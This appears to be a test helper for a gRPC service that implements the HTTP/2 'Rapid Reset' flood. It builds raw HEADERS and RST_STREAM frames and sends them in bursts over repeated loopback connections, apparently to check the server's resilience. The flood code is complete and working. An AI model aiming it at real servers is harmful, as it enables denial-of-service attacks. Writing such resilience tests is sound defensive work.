#include "tests/testing/rapid_reset.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <memory>

namespace loupe::testing {
namespace {

using Clock = std::chrono::steady_clock;

constexpr int kStreamsPerWrite = 100;

// RFC 9113 §4.1.
std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  std::string frame;
  const auto size = static_cast<uint32_t>(payload.size());
  for (const int shift : {16, 8, 0}) frame += static_cast<char>((size >> shift) & 0xff);
  frame += static_cast<char>(type);
  frame += static_cast<char>(flags);
  for (const int shift : {24, 16, 8, 0}) frame += static_cast<char>((stream >> shift) & 0xff);
  return frame + payload;
}

std::string Text(const std::string& text) { return std::string(1, static_cast<char>(text.size())) + text; }

// RFC 7541: POST, http, and literals without indexing.
std::string RequestHeaders() {
  return std::string("\x83\x86", 2) + '\x04' + Text("/loupe.v1.SweepService/ListSweeps") + '\x01' + Text("localhost") +
         "\x0f\x10" + Text("application/grpc") + std::string(1, '\0') + Text("te") + Text("trailers");
}

// One connection; blocking with a timeout for each read and write.
class Attacker {
 public:
  Attacker(int port, SSL_CTX* context) : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    const timeval timeout{0, 200'000};
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
    ::setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof timeout);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    // As another machine: what is limited per machine must not meet the other clients.
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1);
    ::bind(fd_, reinterpret_cast<const sockaddr*>(&address), sizeof address);
    address.sin_port = htons(static_cast<uint16_t>(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    open_ = ::connect(fd_, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0;
    if (!open_ || context == nullptr) return;
    ssl_ = SSL_new(context);
    SSL_set_fd(ssl_, fd_);
    open_ = SSL_connect(ssl_) == 1;
  }
  ~Attacker() {
    SSL_free(ssl_);
    ::close(fd_);
  }
  Attacker(const Attacker&) = delete;
  Attacker& operator=(const Attacker&) = delete;

  bool Send(const std::string& bytes) {
    if (!open_) return false;
    const auto size = static_cast<int>(bytes.size());
    open_ = (ssl_ != nullptr ? SSL_write(ssl_, bytes.data(), size)
                             : static_cast<int>(::send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL))) == size;
    return open_;
  }
  // What the other side has said; waits for it only where `wait`.
  std::string Receive(bool wait) {
    pollfd waited{fd_, POLLIN, 0};
    if (!open_ || ((ssl_ == nullptr || SSL_pending(ssl_) == 0) && ::poll(&waited, 1, wait ? 500 : 0) <= 0)) return {};
    char buffer[4096];
    const int got = ssl_ != nullptr ? SSL_read(ssl_, buffer, sizeof buffer)
                                    : static_cast<int>(::recv(fd_, buffer, sizeof buffer, 0));
    if (got <= 0) open_ = false;
    return std::string(buffer, got > 0 ? static_cast<size_t>(got) : 0);
  }
  bool open() const { return open_; }

 private:
  const int fd_;
  SSL* ssl_ = nullptr;
  bool open_ = false;
};

}  // namespace

RapidResetResult RapidReset(int port, bool tls, double seconds) {
  // OpenSSL writes without MSG_NOSIGNAL.
  ::signal(SIGPIPE, SIG_IGN);
  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
  const std::unique_ptr<SSL_CTX, decltype(&SSL_CTX_free)> context(tls ? SSL_CTX_new(TLS_client_method()) : nullptr,
                                                                  &SSL_CTX_free);
  if (tls) SSL_CTX_set_alpn_protos(context.get(), reinterpret_cast<const unsigned char*>("\x02h2"), 3);
  RapidResetResult result;
  const std::string headers = RequestHeaders();
  while (Clock::now() < end) {
    Attacker attacker(port, context.get());
    ++result.connections;
    attacker.Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(4, 0, 0, ""));
    // The first frame that the other side sends in HTTP/2 is of the type SETTINGS, on stream 0.
    const std::string first = attacker.Receive(/*wait=*/true);
    if (first.size() >= 9 && first[3] == 4 && first.substr(5, 4) == std::string(4, '\0')) result.reached_http2 = true;
    uint32_t stream = 1;
    while (attacker.open() && Clock::now() < end) {
      std::string burst;
      for (int i = 0; i < kStreamsPerWrite; ++i, stream += 2) {
        burst += Frame(1, 0x4, stream, headers) + Frame(3, 0, stream, std::string("\0\0\0\x08", 4));
      }
      if (attacker.Send(burst)) result.streams += kStreamsPerWrite;
      attacker.Receive(/*wait=*/false);
    }
  }
  return result;
}

}  // namespace loupe::testing
